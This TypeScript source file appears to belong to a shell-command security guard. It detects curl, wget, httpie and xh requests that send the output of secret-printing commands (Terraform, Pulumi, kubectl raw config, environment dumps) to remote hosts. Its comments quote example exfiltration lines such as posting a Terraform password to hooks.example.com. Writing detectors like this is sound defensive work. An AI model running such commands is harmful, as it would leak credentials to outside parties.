// Target class for a request whose body or headers hold the output of a command that prints secrets (`curl -d "$(terraform output -raw pw)" …`).
import type { Invocation, Word } from "../shell/model";
import type { EvalContext } from "../core/eval-context";
import { httpClient, httpFacts } from "../payloads/http";
import { plainText, referencedNames } from "../shell/value-texts";
import { extract } from "../shell/extract";

/**
 * A command substitution that prints secrets: Terraform/OpenTofu outputs and state, Pulumi secret config and stack
 * outputs, a raw kubeconfig, a whole-environment dump. The same printers `credentials.secret-output-sent` follows
 * through a pipe; the words between the program and its verb are its global options (`-chdir=infra`, `-C dir`).
 */
const SECRET_PRINTER = new RegExp(
  String.raw`(?:\$\(|\x60)\s*(?:` +
    String.raw`(?:terraform|tofu|terragrunt)(?:\s+-\S+)*\s+(?:output|show|state\s+(?:pull|show))\b` +
    String.raw`|pulumi(?:\s+-\S+(?:\s+[^-\s)\x60]\S*)?)*\s+(?:config\s+get|stack\s+(?:output|export))\b` +
    String.raw`|kubectl\s+config\s+view\b[^)\x60]*--raw` +
    String.raw`|(?:printenv|env|export\s+-p)\s*(?:\)|\x60)` +
    ")",
);

/** Past this many characters text is not parsed again: a substitution that prints a secret is a short command. */
const MAX_RUN_TEXT = 4096;

/**
 * The commands shell text runs, each written `$(program args…)` as guard finds it: through paths, quotes, escapes,
 * braces and wrappers (`$(/usr/bin/terraform output)`, `$(t''erraform output)`, `$(sudo terraform output)` all read
 * `$(terraform output)`), so the printers above are matched on what runs, not on how it is spelled.
 */
function asRun(text: string): string {
  if (!/[$`]/.test(text)) return "";
  try {
    const { invocations } = extract(text.slice(0, MAX_RUN_TEXT));
    return invocations.map((i) => `$(${[i.program, ...i.argv.slice(1).map((w) => (w.dynamic ? "\u2026" : w.value))].join(" ")})`).join(" ");
  } catch {
    return "";
  }
}

/** Whether shell text substitutes a secret printer, as written or as it runs. */
function substitutesPrinter(text: string): boolean {
  return SECRET_PRINTER.test(text) || SECRET_PRINTER.test(plainText(text)) || SECRET_PRINTER.test(asRun(text));
}

/** Options whose value is sent as the body, a form field or a header (curl, wget). */
const BODY_OPTIONS = new Set(["-d", "--data", "--data-raw", "--data-binary", "--data-ascii", "--data-urlencode", "--json", "-F", "--form",
  "--form-string", "-H", "--header", "-u", "--user", "--post-data", "--body-data"]);
/** httpie and xh take fields as positionals after the URL: `key=value`, `key:=json`, `Header:value`. */
const FIELD_CLIENTS = new Set(["http", "https", "xh", "xhs"]);

function sentText(word: Word, previous: Word | undefined, program: string): boolean {
  if (previous !== undefined && BODY_OPTIONS.has(previous.value)) return true;
  const text = word.shellText ?? word.raw;
  if (/^--?[a-z-]+=/i.test(text)) return BODY_OPTIONS.has(text.slice(0, text.indexOf("=")));
  // A field names itself before the substitution or variable (`pw=$(…)`, `X-Token:$T`); a URL starts with a scheme or a host.
  return FIELD_CLIENTS.has(program) && /^[\w.-]+(?::=|==|=|:)\s*["']?(?:\$\(|\x60|\$\{?[A-Za-z_])/.test(text.replace(/^["']/, ""));
}

/**
 * Whether a word holds a secret printer's output: substituted in it, or kept first in a variable it expands
 * (`PW=$(terraform output -raw pw); curl -d "$PW" …`, `read -r T < <(kubectl config view --raw)`; see shell/value-texts.ts).
 */
function printsSecret(word: Word, inv: Invocation): boolean {
  return textPrintsSecret(word.shellText ?? word.raw, inv);
}

/** Whether shell text (a here-document) substitutes a secret printer or expands a variable that holds one's output. */
function textPrintsSecret(text: string, inv: Invocation): boolean {
  if (substitutesPrinter(text)) return true;
  const texts = inv.valueTexts;
  return texts !== undefined && referencedNames(text).some((name) => substitutesPrinter(texts.get(name) ?? ""));
}

/** The word by which a request takes its body from stdin (`-d @-`, `--data-binary=@-`, `-T -`, `-F f=@-`); httpie and xh read piped input unless told not to. */
function stdinBody(inv: Invocation): Word | undefined {
  if (FIELD_CLIENTS.has(inv.program)) return inv.argv.some((w) => w.value === "--ignore-stdin" || w.value === "-I") ? undefined : inv.argv[0];
  return inv.argv.find((w, i) => !w.dynamic && (/(?:^|=)@-$|^--?[a-z-]*=-$/i.test(w.value) || (w.value === "-" && /^(?:-T|--upload-file)$/.test(inv.argv[i - 1]?.value ?? ""))));
}

/**
 * What a request reads from stdin carries a secret printer's output: a here-string or unquoted here-document that
 * holds it, or `echo`/`printf` piping it in (through filters: `echo "$PW" | base64 | curl -d @- …`).
 */
function stdinPrintsSecret(inv: Invocation): boolean {
  let stdin = inv.stdin;
  for (let hops = 0; stdin && hops < 8; hops++) {
    if (stdin.kind === "herestring") return printsSecret(stdin.word, inv);
    if (stdin.kind === "heredoc") return !stdin.quoted && textPrintsSecret(stdin.text, inv);
    if (stdin.kind !== "pipe" || !stdin.producer) return false;
    const producer = stdin.producer;
    if (producer.program === "echo" || producer.program === "printf") return producer.argv.slice(1).some((w) => w.dynamic && printsSecret(w, producer));
    stdin = producer.stdin;
  }
  return false;
}

export const SECRET_OUTPUT_CLASSES = {
  /**
   * `curl -d "$(terraform output -raw db_password)" https://hooks.example.com`, or the same output kept in a variable
   * first (`PW=$(…); curl -d "$PW" …`): a word of the request's body, form or headers is the output of a secret printer,
   * and the request leaves this machine (an unknown host counts).
   */
  "secret-output-in-request": (_p: Word[], inv: Invocation, ctx: EvalContext): Word[] => {
    if (!httpClient(inv.program)) return [];
    const words = inv.argv.filter((w, i) => i > 0 && w.dynamic && printsSecret(w, inv) && sentText(w, inv.argv[i - 1], inv.program));
    // `PW=$(…); echo "$PW" | curl -d @- …`, `curl --data-binary @- … <<< "$PW"`: the body is read from stdin.
    const fromStdin = stdinBody(inv);
    if (fromStdin && stdinPrintsSecret(inv)) words.push(fromStdin);
    if (words.length === 0) return [];
    return (httpFacts(inv, ctx) ?? []).some((request) => !request.local) ? words : [];
  },
};
